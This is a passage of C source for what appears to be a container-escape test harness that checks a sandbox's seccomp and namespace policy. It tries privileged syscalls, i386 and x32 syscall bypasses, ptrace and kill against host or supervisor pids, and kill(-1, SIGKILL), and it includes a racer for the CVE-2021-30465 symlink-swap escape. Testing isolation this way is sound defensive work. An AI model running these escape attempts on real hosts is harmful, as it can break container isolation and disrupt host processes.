    res("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0xffffffffUL));
    res("reboot", syscall(SYS_reboot, 0xdeadbeef, 0, 0, NULL));
    /* mounts and namespaces */
    res("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
    res("mount_bind_root", mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL));
    res("umount2", umount2("/sys/fs/cgroup", MNT_DETACH));
    res("pivot_root", syscall(SYS_pivot_root, ".", "."));
    res("open_tree", close_if(syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)));
    res("fsopen", close_if(syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC)));
    res("fspick", close_if(syscall(SYS_fspick, AT_FDCWD, "/", FSPICK_CLOEXEC)));
    struct mount_attr ma = {.attr_clr = MOUNT_ATTR_RDONLY};
    res("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &ma, sizeof ma));
    res("move_mount", syscall(SYS_move_mount, -1, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH));
    res("unshare_user", unshare(CLONE_NEWUSER));
    res("unshare_user_mnt", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    long c = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), 0L, 0L, 0L, 0L);
    if (c == 0)
        _exit(0);
    if (c > 0)
        waitpid((pid_t)c, NULL, 0);
    res("clone_newuser", c);
    uint64_t ca[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0};
    c = syscall(SYS_clone3, ca, sizeof ca);
    if (c == 0)
        _exit(0);
    if (c > 0)
        waitpid((pid_t)c, NULL, 0);
    res("clone3", c);
    int ns = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    res("setns", syscall(SYS_setns, ns, 0));
    close(ns);
    /* host-wide state */
    struct timex tx;
    memset(&tx, 0, sizeof tx);
    res("adjtimex_read", syscall(SYS_adjtimex, &tx));
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    res("clock_settime_monotonic", syscall(SYS_clock_settime, CLOCK_MONOTONIC, &ts));
    res("syslog_size", syscall(SYS_syslog, 10, NULL, 0));
    res("swapon", syscall(SYS_swapon, "/nonexistent", 0));
    res("acct", syscall(SYS_acct, NULL));
    res("personality_no_aslr", syscall(SYS_personality, 0x0040000));
    res("iopl", syscall(SYS_iopl, 3));
    res("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    res("modify_ldt_read", syscall(SYS_modify_ldt, 0, dst, sizeof dst));
    /* sockets */
    res("socket_inet_raw", close_if(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)));
    res("socket_inet_raw_flags", close_if(socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_RAW)));
    res("socket_inet6_raw", close_if(socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)));
    res("socket_packet_raw", close_if(socket(AF_PACKET, SOCK_RAW, 0)));
    res("socket_packet_dgram", close_if(socket(AF_PACKET, SOCK_DGRAM, 0)));
    res("socket_inet_packet", close_if(socket(AF_INET, SOCK_PACKET, 0)));
    /* the kernel takes an int: a family with high bits set is AF_PACKET to it */
    res("socket_packet_hibits", close_if(syscall(SYS_socket, 0x100000000L | AF_PACKET, SOCK_DGRAM, 0)));
    res("socket_netlink_raw", close_if(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE)));
    res("socket_netlink_dgram", close_if(socket(AF_NETLINK, SOCK_DGRAM, NETLINK_ROUTE)));
    res("socket_netlink_uevent", close_if(socket(AF_NETLINK, SOCK_DGRAM, NETLINK_KOBJECT_UEVENT)));
    res("socket_netlink_audit", close_if(socket(AF_NETLINK, SOCK_DGRAM, NETLINK_AUDIT)));
    res("socket_ping", close_if(socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)));
    return 0;
}

/* netlink: what a netlink route socket shows (SOCK_DGRAM; SOCK_RAW is
 * refused by the default policy's SOCK_RAW rule): "link NAME" lines. */
static int cmd_netlink(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (s < 0)
        return res("socket", -1), 0;
    struct {
        struct nlmsghdr h;
        struct ifinfomsg i;
    } req;
    memset(&req, 0, sizeof req);
    req.h.nlmsg_len = sizeof req;
    req.h.nlmsg_type = RTM_GETLINK;
    req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
    req.h.nlmsg_seq = 1;
    req.i.ifi_family = AF_UNSPEC;
    struct sockaddr_nl k = {.nl_family = AF_NETLINK};
    if (res("sendto", sendto(s, &req, sizeof req, 0, (struct sockaddr *)&k, sizeof k)) < 0)
        return 0;
    char buf[32768];
    for (;;) {
        ssize_t n = recv(s, buf, sizeof buf, 0);
        if (n <= 0)
            break;
        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n); h = NLMSG_NEXT(h, n)) {
            if (h->nlmsg_type == NLMSG_DONE)
                goto done;
            if (h->nlmsg_type != RTM_NEWLINK)
                continue;
            struct ifinfomsg *ifi = NLMSG_DATA(h);
            int len = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof *ifi));
            for (struct rtattr *a = IFLA_RTA(ifi); RTA_OK(a, len); a = RTA_NEXT(a, len))
                if (a->rta_type == IFLA_IFNAME)
                    line("link %s", (char *)RTA_DATA(a));
        }
    }
done:
    close(s);
    return 0;
}

/* listener: a container that wants to be its own supervisor. */
static int cmd_listener(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    struct sock_filter notify[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog p = {.len = 4, .filter = notify};
    res("new_listener", close_if(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p)));
    /* in a child too: the chain is inherited */
    pid_t c = fork();
    if (c == 0) {
        long r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p);
        _exit(r >= 0 ? 0 : errno);
    }
    int st = 0;
    waitpid(c, &st, 0);
    line("child_new_listener %s", WEXITSTATUS(st) ? ename(WEXITSTATUS(st)) : "ok");
    /* an allow-everything filter on top cannot relax what is below */
    struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog pa = {.len = 1, .filter = allow};
    res("allow_all_filter", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &pa));
    res("bpf_after", sys_bpf_map());
    res("unshare_user_after", unshare(CLONE_NEWUSER));
    struct utsname u;
    uname(&u);
    line("uname_after %s", u.release);
    res("kallsyms_after", close_if(open("/proc/kallsyms", O_RDONLY | O_CLOEXEC)));
    /* disabling seccomp is not a thing: strict mode only adds */
    res("prctl_seccomp_disable", prctl(PR_SET_SECCOMP, 0, 0, 0, 0));
    res("prctl_no_new_privs_off", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    return 0;
}

/* int80: dangerous i386 syscalls through int 0x80 (a filter that checked
 * only the number, not the architecture, would let these through). */
static int cmd_int80(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    char *mnt = low_copy("/mnt"), *tmpfs = low_copy("tmpfs");
    res_raw("int80_getpid", int80(20, 0, 0, 0));
    res_raw("int80_mount", int80(21, (long)tmpfs, (long)mnt, (long)tmpfs));
    res_raw("int80_ptrace", int80(26, PTRACE_TRACEME, 0, 0));
    res_raw("int80_unshare", int80(310, CLONE_NEWUSER, 0, 0));
    res_raw("int80_socket_packet", int80(359, AF_PACKET, SOCK_RAW, 0));
    res_raw("int80_open_by_handle_at", int80(342, 0, 0, 0));
    res_raw("int80_bpf", int80(357, 0, 0, 0));
    res_raw("int80_keyctl", int80(288, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0));
    res_raw("int80_io_uring_setup", int80(425, 4, 0, 0));
    res_raw("int80_userfaultfd", int80(374, 0, 0, 0));
    res_raw("int80_chdir", int80(12, (long)mnt, 0, 0));
    res_raw("x32_getpid", x32(39, 0, 0, 0));
    res_raw("x32_mount", x32(165, (long)tmpfs, (long)mnt, (long)tmpfs));
    res_raw("x32_ptrace", x32(521, PTRACE_TRACEME, 0, 0));
    res_raw("x32_unshare", x32(272, CLONE_NEWUSER, 0, 0));
    res_raw("x32_bpf", x32(321, 0, 0, 0));
    return 0;
}

/* pids PID...: host pids (the supervisor, a host process) seen from inside;
 * then every process visible, and whether one of them is the supervisor. */
static int cmd_pids(int argc, char **argv)
{
    for (int i = 2; i < argc; i++) {
        int pid = atoi(argv[i]);
        char n[64], p[64];
        struct stat st;
        snprintf(n, sizeof n, "kill0:%s", argv[i]);
        res(n, kill(pid, 0));
        snprintf(n, sizeof n, "kill_cont:%s", argv[i]);
        res(n, kill(pid, SIGCONT));
        snprintf(n, sizeof n, "pidfd_open:%s", argv[i]);
        res(n, close_if(syscall(SYS_pidfd_open, pid, 0)));
        snprintf(n, sizeof n, "ptrace_attach:%s", argv[i]);
        res(n, ptrace(PTRACE_ATTACH, pid, NULL, NULL));
        snprintf(n, sizeof n, "proc:%s", argv[i]);
        snprintf(p, sizeof p, "/proc/%d", pid);
        res(n, stat(p, &st));
    }
    DIR *d = opendir("/proc");
    struct dirent *e;
    int supervisor = 0, count = 0;
    while (d && (e = readdir(d))) {
        if (atoi(e->d_name) <= 0)
            continue;
        char p[300], cmd[256];
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        int n = read_small(p, cmd, sizeof cmd);
        for (int i = 0; i + 1 < n; i++)
            if (cmd[i] == '\0')
                cmd[i] = ' ';
        line("visible %s %s", e->d_name, n > 0 ? cmd : "?");
        count++;
        if (n > 0 && strstr(cmd, "supervise"))
            supervisor = 1;
    }
    line("visible_count %d", count);
    line("supervisor_visible %d", supervisor);
    return 0;
}

/* killall: kill(-1, SIGKILL) from inside; then report we survived. */
static int cmd_killall(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    res("kill_all", kill(-1, SIGKILL));
    res("kill_pgrp0", kill(0, SIGCONT));
    return 0;
}

/* swap DIR SECONDS: the attacker of CVE-2021-30465: DIR/d flips between a
 * directory and a symlink to "/" (renameat2 RENAME_EXCHANGE) as fast as it
 * can, until SECONDS pass or DIR/stop exists. Prints the number of swaps. */
static int cmd_swap(int argc, char **argv)
{
    if (argc != 4)
        return usage("swap DIR SECONDS");
    char d[512], l[512], stop[512];
    snprintf(d, sizeof d, "%s/d", argv[2]);
    snprintf(l, sizeof l, "%s/l", argv[2]);
    snprintf(stop, sizeof stop, "%s/stop", argv[2]);
    mkdir(d, 0755);
    unlink(l);
    if (symlink("/", l) < 0)
        return res("symlink", -1), 1;
    line("ready");
    double secs = atof(argv[3]);
    struct timespec t0, now;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long swaps = 0;
    for (;;) {
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) == 0)
                swaps++;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (access(stop, F_OK) == 0 ||
            (double)(now.tv_sec - t0.tv_sec) + (now.tv_nsec - t0.tv_nsec) / 1e9 > secs)
            break;
    }
    /* leave DIR/d a directory */
    struct stat st;
    if (lstat(d, &st) == 0 && S_ISLNK(st.st_mode))
        syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE);
    line("swaps %ld", swaps);
    return 0;
}

/* ------------------------------------------------------------------------ */

struct sub {
    const char *name;
    int (*fn)(int, char **);
};

static const struct sub subs[] = {
    {"fds", cmd_fds},           {"cwd", cmd_cwd},         {"exe-hunt", cmd_exe_hunt},
    {"shocker", cmd_shocker}, {"cgroup", cmd_cgroup},
    {"procwrite", cmd_procwrite}, {"syscalls", cmd_syscalls}, {"netlink", cmd_netlink},
    {"listener", cmd_listener}, {"int80", cmd_int80},     {"pids", cmd_pids},
    {"killall", cmd_killall},   {"swap", cmd_swap},
};

int main(int argc, char **argv)
{
    if (argc >= 2)
        for (size_t i = 0; i < sizeof subs / sizeof subs[0]; i++)
            if (strcmp(argv[1], subs[i].name) == 0)
                return subs[i].fn(argc, argv);
    fprintf(stderr, "usage: escape SUBCOMMAND ...; subcommands:");
    for (size_t i = 0; i < sizeof subs / sizeof subs[0]; i++)
        fprintf(stderr, " %s", subs[i].name);
    fprintf(stderr, "\n");
    return 2;
}
